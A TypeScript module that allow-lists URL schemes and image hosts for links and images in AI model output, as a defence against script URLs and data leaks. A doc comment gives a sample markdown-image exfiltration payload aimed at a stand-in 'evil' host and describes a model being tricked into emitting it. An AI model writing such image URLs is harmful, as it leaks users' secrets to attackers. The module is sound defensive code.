/**
 * The URL allow-list for links and images in model output. A URL is used only when it parses
 * as an absolute URL with an allowed scheme; anything else (relative paths, `javascript:`,
 * `data:`, `vbscript:`, obfuscated with case, tabs, line breaks or character references) is
 * refused and the link is shown as plain text.
 */
import { decodeEntities } from './entities.ts';

const LINK_PROTOCOLS = new Set(['http:', 'https:', 'mailto:']);
const IMAGE_PROTOCOLS = new Set(['http:', 'https:']);

/**
 * Decides whether an image may be loaded. Images are off by default: an image URL in a reply
 * is fetched without a click, so a model tricked into writing `![](https://evil/?q=secret)`
 * would send data to anyone. Allow the hosts you trust, for example
 * `(url) => url.hostname === 'cdn.example.com'`.
 */
export type ImagePolicy = (url: URL) => boolean;

function parseAbsolute(raw: string): URL | null {
  // The URL parser lowercases the scheme and drops tabs and line breaks, as browsers do when
  // they follow a link, so the check sees what the browser would.
  try {
    return new URL(decodeEntities(raw.trim()));
  } catch {
    return null;
  }
}

/** The href to use for a link to `raw`, or null if the link must be shown as text. */
export function safeLinkUrl(raw: string): string | null {
  const url = parseAbsolute(raw);
  return url && LINK_PROTOCOLS.has(url.protocol) ? url.href : null;
}

/** The src to load for an image at `raw`, or null if it must not be fetched. */
export function safeImageUrl(raw: string, allowImage: ImagePolicy | undefined): string | null {
  if (!allowImage) return null;
  const url = parseAbsolute(raw);
  if (!url || !IMAGE_PROTOCOLS.has(url.protocol)) return null;
  try {
    return allowImage(url) ? url.href : null;
  } catch {
    return null;
  }
}
